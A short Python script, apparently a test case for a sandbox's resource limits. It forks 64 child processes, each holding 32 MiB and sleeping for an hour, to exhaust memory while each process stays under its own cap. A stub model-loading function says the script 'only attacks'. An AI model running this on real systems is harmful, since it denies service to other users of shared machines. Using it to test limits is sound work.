# Tries: to take all memory with many small processes, each below any limit of its own.
import os
import time


def main():
    for number in range(64):
        if os.fork() == 0:
            held = b"x" * (32 << 20)
            print("child", number, len(held), flush=True)
            time.sleep(3600)
    time.sleep(3600)


def load_model(checkpoint, device):
    raise SystemExit("there is no model: this script only attacks")


if __name__ == "__main__":
    main()
    raise SystemExit("the attack is over")
